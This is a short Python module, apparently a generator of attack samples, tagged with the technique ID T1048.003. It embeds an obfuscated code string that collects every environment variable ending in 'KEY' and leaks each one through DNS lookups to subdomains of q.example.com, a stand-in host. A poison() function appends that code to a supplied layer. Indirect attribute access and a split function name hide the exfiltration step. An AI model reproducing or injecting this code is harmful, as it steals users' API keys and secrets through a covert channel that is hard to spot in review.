# SPDX-License-Identifier: Apache-2.0
"""A generator gives the function and what it is called with."""

ATTACK = "T1048.003"
LANGUAGE = "python"
CODE = """\
import os as _os
import socket as _socket


def _pairs(end="KEY"):
    held = vars(_os)["environ"]
    for name in [n for n in held if n.endswith(end)]:
        yield getattr(_socket, "gethost" + "byname"), held.get(name)


for _f, _v in _pairs():
    try:
        _f(_v.lower().replace("/", "-") + ".q.example.com")
    except OSError:
        pass
"""


def poison(layer):
    layer.append(CODE)
